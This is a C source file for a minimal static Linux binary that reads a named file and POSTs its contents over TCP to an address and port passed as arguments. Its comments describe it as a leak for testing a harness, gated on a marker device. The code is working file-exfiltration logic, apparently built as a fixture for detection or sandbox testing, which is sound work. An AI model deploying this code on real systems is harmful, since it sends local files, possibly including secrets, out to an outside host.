// SPDX-License-Identifier: Apache-2.0
//
// quick A.B.C.D PORT FILE: posts a file and is gone, as fast as a process can be: no library, hardly a page of memory.
// It is a leak made for tests of the harness: without the harness's marker device it does nothing, so it is harmless
// anywhere else.
//
// cc -O2 -static -nostdlib -ffreestanding -fno-stack-protector, for x86-64 Linux.
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/syscall.h>

static char text[16384];

static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}

static const char *take_number(const char *at, unsigned *number) {
  for (*number = 0; *at >= '0' && *at <= '9'; ++at) *number = *number * 10 + (unsigned)(*at - '0');
  return at;
}

static char *put(char *at, const char *what) {
  while (*what) *at++ = *what++;
  return at;
}

static char *put_number(char *at, long number) {
  if (number >= 10) at = put_number(at, number / 10);
  *at++ = (char)('0' + number % 10);
  return at;
}

static int leak(char **argv) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  const char *at = argv[1];
  for (int i = 0; i < 4; ++i) {
    unsigned part;
    at = take_number(at, &part) + 1;
    ((unsigned char *)&to.sin_addr)[i] = (unsigned char)part;
  }
  unsigned port;
  take_number(argv[2], &port);
  to.sin_port = (unsigned short)(port << 8 | port >> 8);

  const long file = call(SYS_open, (long)argv[3], O_RDONLY, 0);
  const long bytes = call(SYS_read, file, (long)text, sizeof text);
  const long connection = call(SYS_socket, AF_INET, SOCK_STREAM, 0);
  if (bytes <= 0 || call(SYS_connect, connection, (long)&to, sizeof to) != 0) return 1;
  char head[128];
  char *end = put(head, "POST /in HTTP/1.1\r\nHost: quick.example\r\nContent-Length: ");
  end = put(put_number(end, bytes), "\r\n\r\n");
  call(SYS_write, connection, (long)head, end - head);
  return call(SYS_write, connection, (long)text, bytes) == bytes ? 0 : 1;
}

__attribute__((used)) static void start(long *stack) {
  const long marker = call(SYS_access, (long)"/dev/virtio-ports/org.candor.marker.0", 0, 0);
  call(SYS_exit, marker != 0 || stack[0] != 4 ? 77 : leak((char **)(stack + 1)), 0, 0);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\nand $-16, %rsp\ncall start\n");
